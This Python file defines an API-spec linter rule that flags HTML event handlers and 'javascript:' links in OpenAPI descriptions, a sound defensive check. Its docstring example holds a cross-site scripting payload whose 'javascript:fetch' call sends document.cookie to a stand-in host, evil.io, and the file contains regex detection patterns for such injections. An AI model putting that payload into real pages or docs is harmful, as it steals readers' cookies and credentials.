from __future__ import annotations

import re
from collections.abc import Iterator

from apictl.core.registry import Finding, rule
from apictl.lint.context import RuleContext
from apictl.lint.rules.oas import ALL
from apictl.lint.rules.oas.no_script_tags_in_markdown import text_fields_matching
from apictl.specs.openapi.model import Node

EVENT_HANDLER = re.compile(r"<[a-z][^<>]{0,500}?\bon[a-z]+\s*=", re.IGNORECASE)  # bounded: linear on huge texts
JAVASCRIPT_URL = re.compile(r"(?:\]\(\s*|\b(?:href|src)\s*=\s*[\"']?\s*)javascript:", re.IGNORECASE)
UNSAFE = re.compile(f"{EVENT_HANDLER.pattern}|{JAVASCRIPT_URL.pattern}", re.IGNORECASE)


def _may_match(text: str) -> bool:
    """A cheap test that passes wherever UNSAFE may match (a case-insensitive regex over a
    13 MB description costs a second; a literal search on the lower-cased text does not)."""
    return EVENT_HANDLER.search(text) is not None or "javascript:" in text.lower()


@rule(
    code="OAS306",
    name="no-unsafe-markdown",
    on="Root",
    severity="warn",
    formats=ALL,
    preset="recommended",
    category="security",
    redocly=("no-unsafe-markdown",),
)
def no_unsafe_markdown(root: Node, ctx: RuleContext) -> Iterator[Finding]:
    """Descriptions and titles must not contain HTML event handlers or `javascript:` links.

    ## What it does
    Reports every `description` or `title`, in any file of the API, that
    contains an HTML tag with an event handler attribute (`<img
    onerror=...>`, `<a onclick=...>`) or a `javascript:` URL in a Markdown
    link (`[x](javascript:...)`) or an `href`/`src` attribute. `<script>`
    tags are reported by `no-script-tags-in-markdown`.

    ## Why is this bad?
    Documentation portals render descriptions as Markdown with inline
    HTML. Event handlers and `javascript:` URLs run script in the page of
    whoever reads the documentation — on the portal's origin, with its
    cookies and "try it" credentials. An API description from a third party
    (or a compromised repository) becomes a cross-site scripting vector.

    ## Example
    ```yaml
    description: See the [changelog](javascript:fetch('//evil.io?c='+document.cookie)).
    ```

    ## Use instead
    ```yaml
    description: See the [changelog](https://petshop.io/changelog).
    ```

    ## References
    - https://redocly.com/docs/cli/rules/common/no-unsafe-markdown
    - https://owasp.org/www-community/attacks/xss/
    """
    if not any(_may_match(doc.text) for doc in list(ctx.ws.docs.values())):
        return
    for doc, pointer, field, text in text_fields_matching(ctx, UNSAFE):
        what = "a `javascript:` URL" if "javascript:" in text.lower() else "an HTML event handler attribute"
        shown = text if len(text) <= 40 else text[:37] + "…"
        yield Finding(
            doc,
            pointer,
            f"`{field}` contains {what} (`{shown}`), which runs script in the documentation page; remove it",
        )
